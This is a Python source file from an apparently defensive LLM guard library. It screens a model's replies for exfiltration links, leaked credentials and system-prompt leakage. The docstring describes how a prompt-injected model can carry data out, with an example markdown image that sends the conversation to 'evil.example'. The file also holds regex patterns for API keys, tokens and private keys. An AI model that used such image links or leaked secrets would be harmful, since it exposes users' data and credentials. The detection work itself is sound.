"""Screen what a model wrote: data leaving through links, secrets, the system prompt.

A model that read an injection may carry data out in its reply: a markdown image the chat
client fetches at once (``![](https://evil.example/p.png?d=<the conversation>)``), a link
with the data in its query, a raw URL. It may also repeat an API key it saw in a tool's
output, or its own system prompt. Each check here returns findings for the scoring.
"""

from __future__ import annotations

import re
from functools import lru_cache

from conclave.engine.guard.normalize import fold_plain
from conclave.engine.guard.rulebook import EXFILTRATION
from conclave.engine.guard.scoring import Finding
from conclave.engine.guard.structure import carries_data, host
from conclave.engine.guard.verdict import Screening

SECRETS = {
    "anthropic_key": r"sk-ant-[A-Za-z0-9_-]{20,}",
    "openai_key": r"sk-(?!ant-)(?:proj-|svcacct-|admin-)?[A-Za-z0-9_-]{20,}",
    "aws_access_key": r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b",
    "aws_secret_key": r"(?i:aws_secret_access_key)\s*[=:]\s*[\"']?[A-Za-z0-9/+=]{40}",
    "github_token": r"\bgh[pousr]_[A-Za-z0-9]{36,}|\bgithub_pat_[A-Za-z0-9_]{22,}",
    "slack_token": r"\bxox[abposr]-[A-Za-z0-9-]{10,}",
    "google_api_key": r"\bAIza[0-9A-Za-z_-]{35}",
    "stripe_key": r"\b[sr]k_live_[0-9a-zA-Z]{24,}",
    "private_key": r"-----BEGIN (?:[A-Z]+ )*PRIVATE KEY(?: BLOCK)?-----",
    "jwt": r"\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}",
    "conclave_key": r"\bck_[A-Za-z0-9]{12}_[A-Za-z0-9]{52}\b",
    "live_key": r"\b[a-z]{2,10}_(?:live|prod|secret)_[A-Za-z0-9]{16,}",
}
_SECRET = re.compile("|".join(f"(?P<{name}>{source})" for name, source in SECRETS.items()))
_PLACEHOLDER = re.compile(r"x{6,}|\*{4,}|\.{3}|your|example|placeholder|redacted|0{8,}", re.I)
_LINK = re.compile(
    r"(?P<image>!?)\[[^\]\n]{0,300}\]\(\s*<?(?P<url>[^\s)>]+)|(?P<raw>(?:https?://|www\.)[^\s<>\"')\]]+)"
)
_SHINGLE = 4


def findings(text: str, screening: Screening) -> list[Finding]:
    """Exfiltration by links, secrets, and system-prompt leakage in the model's ``text``."""
    found = _link_findings(text, screening.allowed_hosts)
    found += _secret_findings(text)
    if screening.system_prompt:
        found += _leak_findings(text, screening.system_prompt)
        found += _code_findings(text, screening.system_prompt)
    return found


def allowed(url_host: str, hosts: frozenset[str]) -> bool:
    """Whether ``url_host`` is one of ``hosts`` or a subdomain of one."""
    return any(url_host == h or url_host.endswith("." + h) for h in hosts)


def _link_findings(text: str, hosts: frozenset[str]) -> list[Finding]:
    if "http" not in text and "www." not in text and "](" not in text:
        return []
    found = []
    for match in _LINK.finditer(text):
        url = match.group("url") or match.group("raw")
        url_host = host(url if "//" in url else "http://" + url)
        if not url_host or allowed(url_host.lower(), hosts):
            continue
        finding = _link_finding(
            url, url_host.lower(), image=bool(match.group("image")), hosts=hosts
        )
        if finding:
            found.append(finding)
    return found


def _link_finding(url: str, url_host: str, *, image: bool, hosts: frozenset[str]) -> Finding | None:
    """A finding for a link to a host not allowed: heavy when it carries data."""
    kind = "image_url" if image else "link"
    reason = f"exfiltration:{kind}:{url_host}"
    if carries_data(url):
        return Finding(family=EXFILTRATION, reason=reason, weight=0.95 if image else 0.75)
    if image:
        # An image to a foreign host leaks at least that the chat was read, and when
        # was; with an allow-list given, it is outside what the operator expects.
        return Finding(family=EXFILTRATION, reason=reason, weight=0.55 if hosts else 0.3)
    return None


def _secret_findings(text: str) -> list[Finding]:
    found = []
    for match in _SECRET.finditer(text):
        if _PLACEHOLDER.search(match.group()):
            continue
        kind = match.lastgroup or "secret"
        found.append(Finding(family=EXFILTRATION, reason=f"secret:{kind}", weight=0.95))
    return found


def _leak_findings(text: str, system_prompt: str) -> list[Finding]:
    """System-prompt leakage: many of the prompt's word shingles repeated in ``text``."""
    prompt = _shingles(system_prompt)
    if len(prompt) < 2:
        return []
    shared = len(prompt & _shingles_of(text))
    share = shared / len(prompt)
    if shared >= 12 or (shared >= 3 and share >= 0.3):
        return [Finding(family="prompt_extraction", reason="leakage:system_prompt", weight=0.9)]
    if shared >= 5 or (shared >= 2 and share >= 0.15):
        return [Finding(family="prompt_extraction", reason="leakage:system_prompt", weight=0.45)]
    return []


# Codes, keys and identifiers: runs of letters, digits and dashes with both letters and digits.
_CODE = re.compile(r"(?<![\w-])(?=[\w-]*\d)(?=[\w-]*[^\W\d_])[\w-]{6,}(?![\w-])")


def _code_findings(text: str, system_prompt: str) -> list[Finding]:
    """A code or key from the system prompt (a discount code, an access key) repeated in the
    reply: the prompt's confidential values leave with it, paraphrased or not."""
    shared = _codes(system_prompt).intersection(_CODE.findall(text))
    if not shared:
        return []
    return [Finding(family="prompt_extraction", reason="leakage:prompt_code", weight=0.9)]


@lru_cache(maxsize=256)
def _codes(system_prompt: str) -> frozenset[str]:
    return frozenset(_CODE.findall(system_prompt))


_TOKEN = re.compile(r"[\u3040-\u30ff\u3400-\u9fff\uac00-\ud7af\u0e00-\u0e7f]|[^\W_]+")


def _shingles_of(text: str) -> frozenset[tuple[str, ...]]:
    """Runs of four tokens: words, or single characters in scripts without spaces."""
    tokens = _TOKEN.findall(fold_plain(text))
    return frozenset(tuple(tokens[i : i + _SHINGLE]) for i in range(len(tokens) - _SHINGLE + 1))


@lru_cache(maxsize=256)
def _shingles(system_prompt: str) -> frozenset[tuple[str, ...]]:
    """The system prompt's shingles, cached: an agent screens every reply against one prompt."""
    return _shingles_of(system_prompt)
